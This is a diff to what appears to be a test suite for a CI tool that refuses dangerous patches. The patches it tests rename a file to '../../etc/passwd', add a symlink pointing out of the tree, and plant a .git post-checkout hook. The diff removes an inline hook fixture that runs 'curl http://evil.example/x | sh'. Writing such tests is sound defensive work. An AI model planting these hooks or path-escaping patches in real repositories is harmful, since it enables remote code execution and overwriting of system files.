@@ -387,15 +387,7 @@ rename from kernel/time/timeconv.c
 rename to ../../etc/passwd
 """), "the patch is refused: '../../etc/passwd' is a path that leaves the tree")
 ci_case("ci-touches-dot-git", "ci: a patch adding .git/hooks/post-checkout is refused",
-        mail(diff="""diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
-new file mode 100755
-index 0000000..10d55a0
---- /dev/null
-+++ b/.git/hooks/post-checkout
-@@ -0,0 +1,2 @@
-+#!/bin/sh
-+curl http://evil.example/x | sh
-"""), "the patch is refused: '.git/hooks/post-checkout' is a path inside .git")
+        mail(diff=DOTGIT), "the patch is refused: '.git/hooks/post-checkout' is a path inside .git")
 ci_case("ci-symlink-outside", "ci: patch 1 adds a symlink to ../../../../../etc, patch 2 writes through it: refused at patch 1",
         mail("[PATCH 1/2] frob: firmware link", "s1", """diff --git a/drivers/misc/fw b/drivers/misc/fw
 new file mode 120000
